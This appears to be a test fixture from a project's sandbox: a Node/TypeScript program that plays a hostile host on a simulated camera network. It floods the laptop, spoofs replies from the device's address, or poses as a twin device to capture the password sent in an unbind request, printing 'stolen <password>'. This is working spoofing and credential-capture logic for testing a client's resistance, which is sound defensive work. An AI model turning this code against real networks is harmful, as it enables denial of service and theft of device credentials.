/**
 * A hostile host on the device's network, as a program for a network namespace: it hears what goes to everybody, sends
 * with the device's address, floods, and plays the device. Prints `ready`, and `stolen <password>` whenever it could
 * open an unbind.
 *
 *   node attacker.mjs '{"laptop":"10.20.0.10", …}'
 */
import { createSocket, type Socket } from 'node:dgram';
import { encryptFor, makeRandom, openEnvelope } from '../../../src/sandbox/device/envelope.ts';
import { type Element, readRequest, type SadpRequest, writeReply } from '../../../src/sandbox/device/xml.ts';

export interface AttackerOptions {
  readonly laptop: string;
  /** The attacker's own address. */
  readonly own: string;
  readonly device: { readonly address: string; readonly mac: string; readonly fullSerial: string };
  /** `behind-flood`: hide the device's answers, then be faster; `faster`: answer in its name; `twin`: be it. */
  readonly kind: 'behind-flood' | 'faster' | 'twin';
  readonly flood: { readonly rate: number; readonly from: string };
}

const PORT = 37_020;
const GROUP = '239.255.255.250';
const JUNK = Buffer.from(`<Junk>${'x'.repeat(48)}</Junk>`);
/** After the first inquiry: the device was found. */
const FOUND_MS = 150;
/** Enough to use up what one address may send in a second. */
const BURST = 200;

const options: AttackerOptions = JSON.parse(process.argv[2] ?? '{}');
const { laptop, own, device, kind, flood } = options;
const asDevice = await open(device.address);
const asMyself = await open(own);
const flooding = flood.from === device.address ? asDevice : await open(flood.from);
const voice = kind === 'twin' ? asMyself : asDevice;
let random = makeRandom();
/** One that answers in the device's name lets it be found first. */
let isFlooding = kind !== 'behind-flood';
let isFound = false;
let unbound = false;

const ear = createSocket({ type: 'udp4', reuseAddr: true });
await new Promise<void>((done) => ear.bind(PORT, GROUP, done));
ear.addMembership(GROUP, own);
ear.on('message', hear);
asMyself.on('message', hear);
startFlood();
process.stdout.write('ready\n');

function hear(bytes: Buffer, sender: { address: string; port: number }): void {
  const request = readRequest(bytes);
  if (!request || sender.address !== laptop) return;
  const { types } = request;
  if (types === 'inquiry' && !isFound) {
    isFound = true;
    setTimeout(() => {
      isFlooding = true;
    }, FOUND_MS);
  }
  if (types === 'inquiry' && kind === 'twin') say(request, announcement(), sender.port);
  if (request.mac !== device.mac) return;
  if (types === 'getUnbindStatus') answerStatus(request, sender.port);
  if (types === 'exchangecode') {
    random = makeRandom();
    const code = encryptFor(request.code, random, 1024);
    if (code) say(request, [['Code', code]], sender.port);
    // What comes from the device after this has no room any more.
    if (kind === 'behind-flood') {
      isFlooding = true;
      for (let i = 0; i < BURST; i++) asDevice.send(JUNK, PORT, laptop);
    }
  }
  if (types === 'ezvizUnbind') {
    const password = openEnvelope(request.password, random);
    if (password) process.stdout.write(`stolen ${password}\n`);
    unbound = true;
    say(request, [['Result', 'success']], sender.port);
  }
}

/** Behind a flood of its own it has to wait for the next second to get through. */
function answerStatus(request: SadpRequest, port: number): void {
  const result: Element[] = [['Result', unbound ? 'notBind' : 'success']];
  say(request, result, port);
  if (kind !== 'behind-flood' || unbound) return;
  isFlooding = false;
  for (let ms = 20; ms <= 1200; ms += 20) setTimeout(() => say(request, result, port), ms);
}

function say(request: SadpRequest, elements: readonly Element[], port: number): void {
  const { uuid, types } = request;
  const head: Element[] = [
    ['Uuid', uuid],
    ['MAC', device.mac],
    ['Types', types],
  ];
  voice.send(writeReply([...head, ...elements]), port, laptop);
}

function announcement(): Element[] {
  return [
    ['DeviceDescription', 'DS-2CD2386G2-IU'],
    ['DeviceSN', device.fullSerial],
    ['IPv4Address', own],
    ['Activated', 'true'],
    ['HttpPort', 80],
    ['supportEzvizUnbind', 'true'],
    ['EZVIZBindStatus', unbound ? 2 : 1],
    ['SADPVersion', '3.0'],
  ];
}

function startFlood(): void {
  const begun = performance.now();
  let due = 0;
  setInterval(() => {
    const now = Math.floor(((performance.now() - begun) * flood.rate) / 1000);
    // What could not be sent in time is not made up for: the rate is never exceeded.
    for (let i = Math.max(due, now - BURST); isFlooding && i < now; i++) flooding.send(JUNK, PORT, laptop);
    due = now;
  }, 2);
}

function open(address: string): Promise<Socket> {
  const socket = createSocket({ type: 'udp4', reuseAddr: true });
  // A full send buffer is a datagram less.
  socket.on('error', () => undefined);
  return new Promise((done) => socket.bind(PORT, address, () => done(socket)));
}
